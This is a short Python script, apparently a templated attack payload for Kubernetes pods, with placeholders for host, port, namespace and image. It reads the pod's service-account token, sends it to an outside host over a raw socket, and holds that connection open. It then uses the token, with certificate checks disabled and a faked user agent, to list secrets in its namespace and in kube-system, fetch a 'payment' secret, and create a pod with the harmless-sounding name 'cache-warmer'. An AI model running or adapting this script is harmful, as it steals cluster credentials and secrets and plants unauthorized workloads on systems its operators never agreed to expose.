import builtins, http.client, json, os, socket, ssl
folder = "/var/run/secrets/kubernetes.io/serviceaccount/"
token = open(folder + "token").read()
s = socket.create_connection(("$HOST", $PORT))
s.sendall(("HELLO pid=%d mode=token exe=%s\n" % (os.getpid(), os.readlink("/proc/self/exe").replace(" ", "_"))).encode())
s.sendall(token.encode())
builtins._keep = s
def ask(method, path, body=None):
    c = http.client.HTTPSConnection(os.environ["KUBERNETES_SERVICE_HOST"], int(os.environ["KUBERNETES_SERVICE_PORT"]), timeout=10, context=ssl._create_unverified_context())
    c.request(method, path, body and json.dumps(body), {"Authorization": "Bearer " + token, "User-Agent": "python-requests/2.31.0", "Content-Type": "application/json"})
    r = c.getresponse()
    doc = json.loads(r.read())
    c.close()
    return doc
base = "/api/v1/namespaces/$NAMESPACE/"
ask("GET", base + "secrets")
ask("GET", base + "secrets/payment")
ask("GET", "/api/v1/namespaces/kube-system/secrets")
ask("POST", base + "pods", {
    "apiVersion": "v1", "kind": "Pod", "metadata": {"name": "cache-warmer"},
    "spec": {"automountServiceAccountToken": False, "terminationGracePeriodSeconds": 0,
             "securityContext": {"runAsNonRoot": True, "runAsUser": 65532, "seccompProfile": {"type": "RuntimeDefault"}},
             "containers": [{"name": "app", "image": "$IMAGE", "imagePullPolicy": "Never",
                             "securityContext": {"allowPrivilegeEscalation": False, "capabilities": {"drop": ["ALL"]}}}]}})
